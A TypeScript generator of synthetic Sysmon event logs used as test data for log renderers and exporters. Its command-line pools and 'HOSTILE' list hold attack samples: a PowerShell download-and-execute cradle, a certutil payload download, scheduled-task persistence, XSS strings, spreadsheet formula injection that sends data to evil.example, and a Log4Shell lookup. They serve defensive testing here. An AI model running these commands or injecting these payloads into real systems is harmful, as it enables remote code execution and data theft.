/**
 * Deterministic, realistic Sysmon sample data (JSON Lines), modelled on the OTRF captures: EventCode 1, 3,
 * 7, 11 and 15 with Sysmon's exact hash formats, a pool of repeated binaries (hashes repeat, some share an
 * IMPHASH), and a small share of hostile strings so renderers and exporters get exercised.
 *
 *   npm run sample-data -- --events 100000 --out sample-data/sysmon.jsonl [--seed 42]
 */
import { createWriteStream } from 'node:fs';
import { mkdirSync } from 'node:fs';
import { dirname } from 'node:path';

export type SampleEvent = Record<string, string>;

/** mulberry32: small, fast, good enough for test data, and reproducible. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HEX_UPPER = Array.from({ length: 256 }, (_, i) => i.toString(16).toUpperCase().padStart(2, '0'));
const HEX_LOWER = HEX_UPPER.map((h) => h.toLowerCase());

/** n hex digits (n even), four bytes per draw from a lookup table: generation stays fast at a million events. */
function hex(r: () => number, n: number, table = HEX_UPPER): string {
  let s = '';
  while (s.length < n) {
    const x = Math.floor(r() * 4294967296);
    s += table[x >>> 24]! + table[(x >>> 16) & 255]! + table[(x >>> 8) & 255]! + table[x & 255]!;
  }
  return s.length === n ? s : s.slice(0, n);
}

const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;

interface Binary {
  image: string; original: string; description: string; product: string; company: string; version: string;
  sha1: string; md5: string; sha256: string; imphash: string;
}

const MS = 'Microsoft Corporation';
const WIN = 'Microsoft® Windows® Operating System';
const SYS32 = 'C:\\Windows\\System32\\';
const BINARY_SPECS: [string, string, string, string?, string?][] = [
  [SYS32 + 'cmd.exe', 'Cmd.Exe', 'Windows Command Processor'],
  [SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe', 'PowerShell.EXE', 'Windows PowerShell'],
  [SYS32 + 'conhost.exe', 'CONHOST.EXE', 'Console Window Host'],
  [SYS32 + 'svchost.exe', 'svchost.exe', 'Host Process for Windows Services'],
  [SYS32 + 'rundll32.exe', 'RUNDLL32.EXE', 'Windows host process (Rundll32)'],
  [SYS32 + 'regsvr32.exe', 'REGSVR32.EXE', 'Microsoft(C) Register Server'],
  [SYS32 + 'net.exe', 'net.exe', 'Net Command'],
  [SYS32 + 'net1.exe', 'net1.exe', 'Net Command'],
  [SYS32 + 'whoami.exe', 'whoami.exe', 'whoami - displays logged on user information'],
  [SYS32 + 'netsh.exe', 'netsh.exe', 'Network Command Shell'],
  [SYS32 + 'schtasks.exe', 'schtasks.exe', 'Task Scheduler Configuration Tool'],
  [SYS32 + 'wbem\\WmiPrvSE.exe', 'Wmiprvse.exe', 'WMI Provider Host'],
  [SYS32 + 'taskhostw.exe', 'taskhostw.exe', 'Host Process for Windows Tasks'],
  [SYS32 + 'mshta.exe', 'MSHTA.EXE', 'Microsoft (R) HTML Application host'],
  [SYS32 + 'certutil.exe', 'CertUtil.exe', 'CertUtil.exe'],
  [SYS32 + 'bitsadmin.exe', 'bitsadmin.exe', 'BITS administration utility'],
  [SYS32 + 'wscript.exe', 'wscript.exe', 'Microsoft ® Windows Based Script Host'],
  [SYS32 + 'reg.exe', 'reg.exe', 'Registry Console Tool'],
  ['C:\\Windows\\explorer.exe', 'EXPLORER.EXE', 'Windows Explorer'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'chrome.exe', 'Google Chrome', 'Google Chrome', 'Google LLC'],
  ['C:\\Program Files\\Mozilla Firefox\\firefox.exe', 'firefox.exe', 'Firefox', 'Firefox', 'Mozilla Corporation'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'WinWord.exe', 'Microsoft Word', 'Microsoft Office', MS],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', 'Excel.exe', 'Microsoft Excel', 'Microsoft Office', MS],
  ['C:\\Users\\Public\\python\\python.exe', 'python.exe', 'Python', 'Python', 'Python Software Foundation'],
  ['C:\\Users\\Public\\update.exe', 'update.exe', 'Updater', 'Updater', 'Unknown'],
  ['C:\\ProgramData\\svc\\svch0st.exe', 'svchost.exe', 'Host Process for Windows Services'],
];
const DLLS = ['ntdll.dll', 'kernel32.dll', 'KernelBase.dll', 'advapi32.dll', 'user32.dll', 'amsi.dll', 'clr.dll', 'wininet.dll', 'ws2_32.dll', 'crypt32.dll', 'System.Management.Automation.ni.dll', 'dbghelp.dll'];

function makeBinaries(r: () => number): { exes: Binary[]; dlls: Binary[] } {
  // A few import tables shared by several binaries, as real IMPHASH clusters are.
  const sharedImphash = [hex(r, 32), hex(r, 32), hex(r, 32)];
  const mk = (image: string, original: string, description: string, product = WIN, company = MS, i = 0): Binary => ({
    image, original, description, product, company,
    version: `10.0.${19041 + Math.floor(r() * 900)}.${Math.floor(r() * 3000)} (WinBuild.160101.0800)`,
    sha1: hex(r, 40), md5: hex(r, 32), sha256: hex(r, 64),
    imphash: i % 4 === 0 ? sharedImphash[(i / 4) % 3]! : hex(r, 32),
  });
  return {
    exes: BINARY_SPECS.map(([img, orig, desc, prod, comp], i) => mk(img, orig, desc, prod, comp, i)),
    dlls: DLLS.map((d, i) => mk(SYS32 + d, d, d, WIN, MS, i + 1)),
  };
}

/** Which algorithms a host's Sysmon config lists; output always in Sysmon's order SHA1, MD5, SHA256, IMPHASH. */
const HASH_CONFIGS: (keyof Pick<Binary, 'sha1' | 'md5' | 'sha256' | 'imphash'>)[][] = [
  ['sha1', 'md5', 'sha256', 'imphash'],
  ['sha1', 'md5', 'sha256', 'imphash'],
  ['md5', 'sha256', 'imphash'],
  ['sha1', 'md5', 'sha256'],
  ['sha256', 'imphash'],
];
const ALG_NAMES = { sha1: 'SHA1', md5: 'MD5', sha256: 'SHA256', imphash: 'IMPHASH' } as const;

function hashes(b: Pick<Binary, 'sha1' | 'md5' | 'sha256' | 'imphash'>, config: (typeof HASH_CONFIGS)[number]): string {
  return config.map((a) => `${ALG_NAMES[a]}=${b[a]}`).join(',');
}

const HOSTS = ['WKS-FIN-01', 'WKS-FIN-02', 'WKS-HR-07', 'WKS-DEV-12', 'WKS-DEV-13', 'LAP-EXEC-03', 'SRV-DC-01', 'SRV-FILE-02', 'SRV-WEB-01', 'SRV-SQL-04', 'WORKSTATION5', 'KIOSK-LOBBY'];
const USERS = ['CORP\\alice', 'CORP\\bob', 'CORP\\carol.admin', 'CORP\\dave', 'CORP\\svc_backup', 'NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\NETWORK SERVICE', 'WORKSTATION5\\wardog'];
const INTEGRITY = ['Medium', 'Medium', 'Medium', 'High', 'System', 'Low'];
const CMDLINES: Record<string, string[]> = {
  'cmd.exe': ['cmd.exe /c whoami', 'cmd.exe /c "dir C:\\Users\\Public"', 'C:\\Windows\\system32\\cmd.exe /c ipconfig /all', 'cmd /c echo %USERNAME%'],
  'powershell.exe': ['powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1', 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://10.0.0.5/a.ps1\')"', '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ', 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
  'rundll32.exe': ['rundll32.exe C:\\Users\\Public\\payload.dll,DllMain', 'rundll32.exe shell32.dll,Control_RunDLL'],
  'net.exe': ['net user /domain', 'net group "Domain Admins" /domain', 'net localgroup administrators'],
  'certutil.exe': ['certutil.exe -urlcache -split -f http://198.51.100.7/x.exe C:\\Users\\Public\\x.exe'],
  'netsh.exe': ['"C:\\windows\\system32\\netsh.exe" advfirewall firewall add rule name=python.exe dir=in action=allow program=C:\\Users\\Public\\python\\python.exe enable=yes'],
  'schtasks.exe': ['schtasks /create /tn Updater /tr C:\\Users\\Public\\update.exe /sc onlogon'],
};
/** Attacker-controlled text a renderer or a CSV export must survive. */
const HOSTILE = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', '</td></tr></table><b>broken</b>',
  'javascript:alert(1)', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '=cmd|\' /C calc\'!A0', '+cmd /c calc', '-enc SQBFAFgA',
  '@SUM(1+1)*cmd|\' /C calc\'!A0', 'invoice\u202Efdp.exe', 'tab\there\tand\tthere', 'line one\nline two\r\nline three',
  'quote " and \'single\', comma, semicolon;', '\u0000nul and \u0007bell', '${jndi:ldap://x.example/a}', '{{7*7}}', '%s%s%s%n',
];

function guid(r: () => number): string {
  const h = hex(r, 32, HEX_LOWER);
  return `{${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20)}}`;
}

function utc(ms: number): string {
  return new Date(ms).toISOString().replace('T', ' ').replace('Z', '');
}

/** Yields `count` Sysmon-like events; the same seed always gives the same events. */
export function* generateSysmonEvents(count: number, seed = 1): Generator<SampleEvent> {
  const r = seededRandom(seed);
  const { exes, dlls } = makeBinaries(r);
  const hostConfig = new Map(HOSTS.map((h, i) => [h, HASH_CONFIGS[i % HASH_CONFIGS.length]!]));
  let t = Date.UTC(2024, 4, 1, 8, 0, 0);
  const powershell = exes[1]!;
  for (let i = 0; i < count; i++) {
    t += Math.floor(r() * 1200);
    const host = pick(r, HOSTS);
    const config = hostConfig.get(host)!;
    const x = r();
    const longLine = i % 50000 === 49;
    const code = longLine ? '1' : x < 0.3 ? '1' : x < 0.5 ? '3' : x < 0.85 ? '7' : x < 0.95 ? '11' : '15';
    // PowerShell is a frequent actor, as in real hunts.
    const bin = r() < 0.08 ? powershell : pick(r, exes);
    const parent = r() < 0.3 ? exes[18]! : pick(r, exes);
    const ts = new Date(t).toISOString();
    const e: SampleEvent = {
      '@timestamp': ts,
      host,
      Computer: `${host}.corp.example.com`,
      EventCode: code,
      index: 'sysmon',
      source: 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational',
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      RuleName: '-',
      UtcTime: `${ts.slice(0, 10)} ${ts.slice(11, 23)}`,
      ProcessGuid: guid(r),
      ProcessId: String(100 + Math.floor(r() * 20000)),
      Image: bin.image,
    };
    const exe = bin.image.slice(bin.image.lastIndexOf('\\') + 1).toLowerCase();
    if (code === '1') {
      let cmd = pick(r, CMDLINES[exe] ?? [`"${bin.image}"`, `${exe} --type=renderer --lang=en-US`]);
      if (r() < 0.03) cmd = `${cmd} ${pick(r, HOSTILE)}`;
      if (longLine) cmd = `powershell.exe -enc ${'QQBCAEMA'.repeat(12500)}`; // ~100 kB
      Object.assign(e, {
        FileVersion: bin.version, Description: bin.description, Product: bin.product, Company: bin.company,
        OriginalFileName: bin.original, CommandLine: cmd, CurrentDirectory: r() < 0.5 ? 'C:\\Windows\\system32\\' : 'C:\\Users\\Public\\',
        User: pick(r, USERS), LogonGuid: guid(r), LogonId: `0x${hex(r, 6, HEX_LOWER).replace(/^0+(?=.)/, '')}`, TerminalSessionId: String(Math.floor(r() * 3)),
        IntegrityLevel: pick(r, INTEGRITY), Hashes: hashes(bin, config), ParentProcessGuid: guid(r),
        ParentProcessId: String(100 + Math.floor(r() * 20000)), ParentImage: parent.image,
        ParentCommandLine: pick(r, CMDLINES[parent.image.slice(parent.image.lastIndexOf('\\') + 1).toLowerCase()] ?? [`"${parent.image}"`]),
        ParentUser: pick(r, USERS),
      });
    } else if (code === '3') {
      Object.assign(e, {
        User: pick(r, USERS), Protocol: r() < 0.9 ? 'tcp' : 'udp', Initiated: 'true', SourceIsIpv6: 'false',
        SourceIp: `10.0.${Math.floor(r() * 8)}.${1 + Math.floor(r() * 250)}`, SourceHostname: `${host}.corp.example.com`,
        SourcePort: String(49152 + Math.floor(r() * 16000)), DestinationIsIpv6: 'false',
        DestinationIp: r() < 0.7 ? `10.0.0.${1 + Math.floor(r() * 20)}` : `198.51.100.${1 + Math.floor(r() * 250)}`,
        DestinationPort: pick(r, ['443', '443', '80', '445', '53', '389', '8080', '4444']),
      });
    } else if (code === '7') {
      const dll = pick(r, dlls);
      Object.assign(e, {
        ImageLoaded: dll.image, FileVersion: dll.version, Description: dll.description, Product: dll.product, Company: dll.company,
        OriginalFileName: dll.original, Hashes: hashes(dll, config), Signed: 'true', Signature: 'Microsoft Windows', SignatureStatus: 'Valid',
        User: pick(r, USERS),
      });
    } else if (code === '11') {
      Object.assign(e, {
        TargetFilename: pick(r, ['C:\\Windows\\Prefetch\\', 'C:\\Users\\Public\\', 'C:\\Users\\alice\\AppData\\Local\\Temp\\']) + `${hex(r, 6, HEX_LOWER)}.${pick(r, ['tmp', 'pf', 'ps1', 'dll', 'exe'])}`,
        CreationUtcTime: utc(t - Math.floor(r() * 86400000)), User: pick(r, USERS),
      });
    } else {
      // A downloaded file's Zone.Identifier stream: not a PE, so IMPHASH is all zeros.
      const nonPe = { sha1: hex(r, 40), md5: hex(r, 32), sha256: hex(r, 64), imphash: '00000000000000000000000000000000' };
      const file = `C:\\Users\\alice\\Downloads\\${pick(r, ['invoice.zip', 'report.pdf', 'setup.exe', 'notes.txt'])}`;
      Object.assign(e, {
        TargetFilename: `${file}:Zone.Identifier`, CreationUtcTime: utc(t - 1000),
        Hash: hashes(file.endsWith('.exe') ? pick(r, exes) : nonPe, config),
        Contents: '[ZoneTransfer]  ZoneId=3  HostUrl=https://download.example.com/',
        User: pick(r, USERS),
      });
    }
    yield e;
  }
}

/** Writes `count` events as JSON Lines to `path`, streaming (memory stays flat for millions of events). */
export async function writeSampleData(path: string, count: number, seed = 1): Promise<void> {
  mkdirSync(dirname(path), { recursive: true });
  const out = createWriteStream(path);
  const done = new Promise<void>((resolve, reject) => { out.on('finish', resolve); out.on('error', reject); });
  let buf = '';
  for (const e of generateSysmonEvents(count, seed)) {
    buf += JSON.stringify(e) + '\n';
    if (buf.length >= 1 << 20) {
      if (!out.write(buf)) await new Promise<void>((res) => out.once('drain', () => res()));
      buf = '';
    }
  }
  out.end(buf);
  await done;
}
